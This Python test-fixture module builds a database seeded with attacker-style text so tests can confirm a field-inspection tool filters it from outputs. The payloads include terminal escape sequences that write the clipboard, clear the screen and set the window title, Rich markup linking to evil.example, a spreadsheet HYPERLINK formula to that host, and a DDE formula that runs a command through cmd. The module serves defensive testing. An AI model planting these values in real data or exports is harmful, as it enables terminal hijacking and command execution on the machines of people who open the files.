"""Stored text an attacker chose: terminal escape sequences, C1 controls, Rich markup and
spreadsheet formulas, in definitions and in answers.

Every payload carries the marker PWNED (OSC 52 puts base64 "PWNED" = "UFdORUQ=" on the
clipboard), so a test can tell the data's bytes from an output's own escape sequences:
`leaked(raw)` finds any of them in what reached a terminal or a file.

`hostile_db` builds what an older fieldkit could hold: a team database merged from an
inspector's laptop (answers carrying the payloads), whose case-file definition was then
rewritten with plain sqlite3 (today's import and merge refuse such text, so no other way
in is left): title, description, section titles, prompts, help and choice labels."""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

from typer.testing import CliRunner

from fieldkit.checklists import parse_checklist
from fieldkit.checklists.model import snake
from fieldkit.cli.commands import app
from fieldkit.register import add_event
from fieldkit.store import Store, schema

CLIPBOARD = "\x1b]52;c;UFdORUQ=\x07"  # OSC 52: put "PWNED" on the clipboard
CLEAR = "PWNED\x1b[2J"  # CSI: clear the screen
C1 = "\x9b31mPWNED\x9d0;PWNED\x9c"  # 8-bit CSI (red) and OSC (window title)
MARKUP = "[/x] [bold]PWNED[link=http://evil.example/]"  # Rich markup: MarkupError, a link
HYPERLINK = '=HYPERLINK("http://evil.example/?PWNED","click")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = f"Ev{CLIPBOARD}il {CLEAR} {C1} {MARKUP} \x7fend"
# the printable text an output still shows once the controls are gone
SHOWN = "Evil PWNED"

# Byte strings that only the data can produce in an output
LEAKS = (
    b"\x1b]52",
    b"UFdORUQ=\x07",
    b"PWNED\x1b[2J",
    "\x9b31m".encode(),  # 8-bit CSI, as UTF-8 (a terminal may read it)
    "\x9d0;".encode(),  # 8-bit OSC
    b"\x7fend",
    b"\x1b]8;",  # a hyperlink made from `[link=...]`
)


def leaked(raw: bytes) -> list[bytes]:
    """The payloads' bytes found in `raw` (an empty list: nothing leaked)."""
    return [b for b in LEAKS if b in raw]


def hostile_definition(conn: sqlite3.Connection, checklist_id: str = "case_file_review") -> None:
    """Rewrite the installed definition of a checklist with plain sqlite3: every title,
    prompt, help and choice label carries the payloads; the first yes/no prompts are
    spreadsheet formulas (a link, DDE). Its hash and items rows are kept consistent."""
    cid, version, text = conn.execute(
        "SELECT id, version, definition FROM checklists WHERE id = ? ORDER BY version DESC",
        (checklist_id,),
    ).fetchone()
    data: dict[str, Any] = json.loads(text)
    data["title"] = f"Files {HOSTILE}"
    data["description"] = HOSTILE
    data.setdefault("app", {}).update(label=f"Files {HOSTILE}", noun=f"file {HOSTILE}")
    formulas = iter([HYPERLINK, DDE])
    for s in data["sections"]:
        s["title"] = f"{s.get('title', s['id'])} {HOSTILE}"
        for i in s.get("items") or []:
            formula = next(formulas, None) if i.get("kind") in ("yn", "ynna") else None
            i["prompt"] = formula or f"{i['prompt']} {HOSTILE}"
            if i.get("help"):
                i["help"] = f"{i['help']} {HOSTILE}"
            for n, c in enumerate(i.get("choices") or []):
                if isinstance(c, dict):
                    c["label"] = f"{c['label']} {HOSTILE}"
                else:
                    i["choices"][n] = {"code": snake(str(c)), "label": f"{c} {HOSTILE}"}
    checklist = parse_checklist(data, "hostile", held=True)
    conn.execute(
        "UPDATE checklists SET definition = ?, hash = ?, title = ? WHERE id = ? AND version = ?",
        (
            checklist.definition_json(),
            schema.checklist_hash(checklist),
            checklist.title,
            cid,
            version,
        ),
    )
    for table in ("items", "natural_key_items"):
        conn.execute(
            f"DELETE FROM {table} WHERE checklist_id = ? AND checklist_version = ?", (cid, version)
        )
    items, key_items = schema.checklist_rows(checklist)
    conn.executemany(f"INSERT INTO items VALUES ({', '.join('?' * len(items[0]))})", items)
    conn.executemany("INSERT INTO natural_key_items VALUES (?, ?, ?, ?)", key_items)


def laptop(path: Path) -> Path:
    """An inspector's database: case files whose free text, notes, reference and inspector
    carry the payloads, and a comment on a recommendation that does (answers are data: they merge, and every way out filters them)."""
    with Store.create(path, inspector=f"ann{CLIPBOARD}") as s:
        for n, force in enumerate(("kent", "essex", "kent")):
            rid = s.create_record(
                "case_file_review",
                force,
                status="final",
                subject_ref=f"CR/{n}{CLIPBOARD}",
                answers={
                    ("cf_crime_ref", ""): f"CR/{n}{CLIPBOARD}",
                    ("cf_offence_category", ""): "abh",
                    ("cf_da_flag", ""): "yes",
                    ("cf_victim_injured", ""): "yes",
                    ("cf_t2_bwv_used", ""): "yes" if n else "no",
                    ("cf_offence_detail", ""): f"{HOSTILE} {DDE}",
                },
            )
            s.set_note(rid, "cf_da_flag", f"{HYPERLINK} {HOSTILE}")
        s.create_record(  # a draft: the dashboard lists it under its checklist's title
            "case_file_review",
            "kent",
            subject_ref=f"CR/9{CLIPBOARD}",
            answers={("cf_crime_ref", ""): f"CR/9{CLIPBOARD}", ("cf_offence_detail", ""): HOSTILE},
        )
        add_event(s, "eb2014:7", "2015-10-01", comment=f"{HOSTILE} {DDE}")
    return path


def hostile_db(folder: Path) -> Path:
    """team.db: merged from a laptop whose answers carry the payloads, then its case-file
    definition rewritten with them (as an older fieldkit let in)."""
    team = folder / "team.db"
    merged = CliRunner().invoke(
        app, ["merge", str(laptop(folder / "laptop.db")), "--into", str(team)]
    )
    assert merged.exit_code == 0, merged.output
    with closing(sqlite3.connect(team)) as conn:
        hostile_definition(conn)
        conn.commit()
    return team
